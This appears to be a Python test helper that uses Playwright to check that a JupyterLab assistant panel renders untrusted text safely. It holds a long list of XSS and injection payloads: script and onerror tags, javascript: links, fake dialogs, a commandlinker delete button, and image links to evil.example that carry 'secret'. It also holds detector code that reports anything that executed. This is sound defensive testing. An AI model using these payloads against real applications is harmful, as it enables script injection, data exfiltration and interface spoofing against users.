"""What a hostile model, file or user would write into a field, and the look whether any of it came to life.

The law: the page is asked what it is, not what it says: no script ran, nothing was fetched, no command was executed, no
element left its box, and nothing of a payload became an element or an attribute that does something.
"""

from __future__ import annotations

from collections.abc import Sequence

from playwright.sync_api import Locator, Page

RTL = "\u202e"
ZERO_WIDTH = "\u200b\u2060\ufeff"

PAYLOADS: Sequence[str] = (
    "<script>window.__pwned = 1</script>",
    "<img src=x onerror=window.__pwned=1>",
    '"><img src=x onerror=window.__pwned=1>',
    "'-window.__pwned=1-'",
    "</textarea></title></style></script><svg onload=window.__pwned=1>",
    '<button data-commandlinker-command="filebrowser:delete" data-commandlinker-args="{}">Go on</button>',
    '<div data-commandlinker-command="help:about"><b>**nested**</b></div>',
    '<div class="jp-Dialog" style="position:fixed;inset:0;z-index:99999">Your session has expired</div>',
    '<div class="lm-Menu" style="position:absolute;top:-999px">menu</div>',
    '<script id="jupyter-config-data" type="application/json">{"baseUrl": "http://evil.example/"}</script>',
    '<form id="jupyter-config-data" action="http://evil.example"><input name="body"><button>Send</button></form>',
    '<input form="search" type="image" src="http://evil.example/i.png"><button form="search" formaction="//evil">x',
    '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
    '<object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
    '<svg><image href="http://evil.example/s.svg"/><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>",
    '<table background="http://evil.example/t.png"><tr><td>x</td></tr></table>',
    '<video poster="http://evil.example/v.png"></video><audio src="http://evil.example/a" autoplay>',
    '<picture><source srcset="http://evil.example/p.png"><img alt=""></picture>',
    '<link rel="stylesheet" href="http://evil.example/l.css"><style>@import "http://evil.example/c.css"; *{color:red}',
    '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<details open ontoggle=window.__pwned=1><summary>s</summary></details>",
    '<a id="x" name="y" href="javascript:window.__pwned=1" onclick="window.__pwned=1">a</a>',
    "![image](http://evil.example/m.png?d=secret)",
    '![by reference][r]\n\n[r]: http://evil.example/r.png "t"',
    "[![both](http://evil.example/b.png)](javascript:window.__pwned=1)",
    "[a](javascript:window.__pwned=1) [b](JaVaScRiPt:window.__pwned=1) [c](&#106;avascript:window.__pwned=1)",
    "[tab](<java\tscript:window.__pwned=1>) [nel](java\u0085script:1) [ctl](\u0001javascript:window.__pwned=1)",
    "[vb](vbscript:x) [data](data:text/html,<script>1</script>) [file](file:///etc/passwd) [blob](blob:http://x/y)",
    "[scheme](//evil.example) [lab](/lab/api/settings) [up](../x.ipynb) [query](?token=x) [hash](#jupyter-config-data)",
    "[good.example](http://user:pw@evil.example) <http://evil.example/?q=1> www.evil.example me@evil.example",
    f"[{RTL}http://good.example](http://evil.example) {RTL}gpj.exe {ZERO_WIDTH}",
    '```"><img src=x onerror=window.__pwned=1>\ncode\n```',
    "```html\n<script>window.__pwned = 1</script>",
    "`<img src=x onerror=window.__pwned=1>` **<b onclick=window.__pwned=1>x</b>**",
    "| <img src=x onerror=window.__pwned=1> | [a](javascript:1) |\n|---|---|\n| ![i](http://evil.example/x) | <s> |",
    "- [ ] <input autofocus onfocus=window.__pwned=1>\n- [x] [a](data:x)",
    "[^1] and\n\n[^1]: <img src=x onerror=window.__pwned=1>",
    "$$\\href{javascript:window.__pwned=1}{x} \\includegraphics{http://evil.example/g}$$ $\\style{position:fixed}{y}$",
    '```mermaid\ngraph TD; A-->B; click A "javascript:window.__pwned=1"\n```',
    "[__proto__]: http://a.example\n[constructor]: http://b.example\n\n[__proto__] [constructor] [toString]",
    "<!--><img src=x onerror=window.__pwned=1>--> <![CDATA[<img src=x onerror=window.__pwned=1>]]> <?php <img> ?>",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} %1 %2 &lt;img&gt;",
    "x" * 900,
    "\u0000\u0007\u001b[31m\u0300" + "\u0300" * 60 + "\ud7ff\uffff",
)
"""Written for a Markdown field; every other field must show them as they are."""

LINES: Sequence[str] = tuple(payload for payload in PAYLOADS if "\n" not in payload and payload.isprintable())
"""Those that fit into a title or a name."""

WATCH = """
() => {
  window.executed = [];
  const ours = id => !id.endsWith(':get-kernel'); // which JupyterLab's menus ask for while a kernel starts
  window.jupyterapp.commands.commandExecuted.connect((_, { id }) => ours(id) && window.executed.push(id));
  window.opened = [];
  window.open = (...words) => { window.opened.push(words); return null; };
}
"""

CLICK = """
root => {
  const stay = event => event.preventDefault();
  document.addEventListener('click', stay, true);
  const own = 'button, button *, textarea, input, select, summary, [role=option], [role=option] *';
  root.querySelectorAll(`*:not(${own})`).forEach(each => {
    each.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  });
  document.removeEventListener('click', stay, true);
}
"""

LOOK = """
root => {
  const found = [];
  const alive = 'script iframe frame object embed img image picture source video audio style link meta base math '
    + 'animate foreignObject portal template slot dialog marquee';
  const text = ['title', 'aria-label', 'value', 'placeholder', 'class', 'href', 'd', 'alt'];
  const within = (inner, outer) => inner.left >= outer.left - 1 && inner.right <= outer.right + 1
    && inner.top >= outer.top - 1 && inner.bottom <= outer.bottom + 1;
  const clipped = each => {
    const own = each.getBoundingClientRect();
    const rect = { left: own.left, right: own.right, top: own.top, bottom: own.bottom };
    for (let box = each.parentElement; box && root.contains(box); box = box.parentElement) {
      const { overflowX, overflowY, contain } = getComputedStyle(box);
      const edge = box.getBoundingClientRect();
      if (overflowX !== 'visible' || contain.includes('paint')) {
        rect.left = Math.max(rect.left, edge.left);
        rect.right = Math.max(rect.left, Math.min(rect.right, edge.right));
      }
      if (overflowY !== 'visible' || contain.includes('paint')) {
        rect.top = Math.max(rect.top, edge.top);
        rect.bottom = Math.max(rect.top, Math.min(rect.bottom, edge.bottom));
      }
    }
    return rect;
  };
  const frame = root.getBoundingClientRect();
  for (const each of root.querySelectorAll('*')) {
    const math = each.closest('mjx-container') !== null;
    const foreign = each.localName === 'form' ? !each.closest('.jp-Assistant-sheet')
      : alive.split(' ').includes(each.localName) && !math;
    if (foreign) found.push(`element ${each.outerHTML.slice(0, 120)}`);
    const message = each.closest('article') !== null && !math;
    for (const { name, value } of each.attributes) {
      const own = message && (name === 'id' || name === 'name' || name === 'style' || name.startsWith('data-'));
      if (own || name.startsWith('on') || /^(src|srcset|srcdoc|action|formaction|form|background|poster)$/.test(name)) {
        found.push(`attribute ${name}=${value.slice(0, 80)} on ${each.localName}`);
      }
      if (!text.includes(name) && /evil|__pwned/.test(value)) found.push(`payload in ${name}=${value.slice(0, 80)}`);
    }
    if (each.localName === 'a' && !/^(https?|mailto):$/.test(each.protocol)) found.push(`link to ${each.href}`);
    if (each.localName === 'a' && each.rel !== 'noopener noreferrer') found.push(`link with rel ${each.rel}`);
    if (/jp-Dialog|lm-Menu/.test(each.getAttribute('class') ?? '')) found.push(`class ${each.className}`);
    const style = getComputedStyle(each);
    if (style.position === 'fixed') found.push(`fixed ${each.outerHTML.slice(0, 120)}`);
    const box = each.checkVisibility() && each.getClientRects().length ? clipped(each) : null;
    if (box && box.right > box.left && box.bottom > box.top && !within(box, frame)) {
      found.push(`outside of the panel: ${each.outerHTML.slice(0, 120)}`);
    }
    if (message && style.position === 'absolute') found.push(`absolute ${each.outerHTML.slice(0, 120)}`);
  }
  if (window.__pwned !== undefined) found.push('a script ran');
  return found;
}
"""


def watch(page: Page) -> None:
    """From now on note the commands that JupyterLab executes and the windows that are opened."""
    page.evaluate(WATCH)


def alive(root: Locator) -> list[str]:
    """What in the panel is more than text, and what clicking all of it but the panel's own controls has done."""
    found: list[str] = root.evaluate(LOOK)
    before = root.page.evaluate("window.executed.length")
    root.evaluate(CLICK)
    executed: list[str] = root.page.evaluate(f"window.executed.slice({before})")
    opened: list[object] = root.page.evaluate("window.opened")
    after: list[str] = root.evaluate(LOOK)
    return [*found, *after, *(f"command {name}" for name in executed), *(f"window {each}" for each in opened)]
